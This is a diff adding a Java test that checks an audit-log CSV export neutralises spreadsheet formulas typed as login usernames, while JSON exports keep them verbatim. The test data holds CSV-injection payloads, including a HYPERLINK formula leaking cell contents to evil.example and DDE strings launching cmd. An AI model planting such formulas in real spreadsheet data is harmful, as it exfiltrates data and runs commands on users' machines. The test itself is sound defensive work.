@@ -303,6 +303,37 @@ abstract class AuditLogContract {
     }
 
     /**
+     * Anyone can put text in the log (the username of a refused login): in the CSV export a value that a
+     * spreadsheet would run as a formula begins with a quote, while JSON and NDJSON keep the value as it was typed.
+     */
+    @Test
+    void formulasTypedAsAUsernameAreInertInTheCsvExportOnly() throws Exception {
+        List<String> formulas = List.of("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+                "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0");
+        for (String formula : formulas) {
+            String correlation = correlation();
+            login(formula, "wrong", correlation).expectStatus().isUnauthorized();
+
+            assertThat(single(awaitEntries("correlationId=" + correlation, 1))).containsEntry("actor", formula);
+            String csv = export(correlation, "text/csv");
+            try (CSVParser parser = CSVParser.parse(new StringReader(csv),
+                    CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get())) {
+                CSVRecord record = parser.getRecords().get(0);
+                assertThat(record.get("actor")).isEqualTo("'" + formula);
+                assertThat(record.get("correlationId")).isEqualTo(correlation);
+            }
+            assertThat(json.readValue(export(correlation, "application/x-ndjson").strip(), Map.class))
+                    .containsEntry("actor", formula);
+        }
+    }
+
+    private String export(String correlation, String mediaType) {
+        return client.get().uri("/api/admin/logs?correlationId=" + correlation)
+                .header(HttpHeaders.AUTHORIZATION, bearer(admin)).accept(MediaType.parseMediaType(mediaType)).exchange()
+                .expectStatus().isOk().expectBody(String.class).returnResult().getResponseBody();
+    }
+
+    /**
      * An export is read a thousand rows at a time: one larger than that crosses pages without losing or repeating
      * a row, even where many entries share a millisecond.
      */
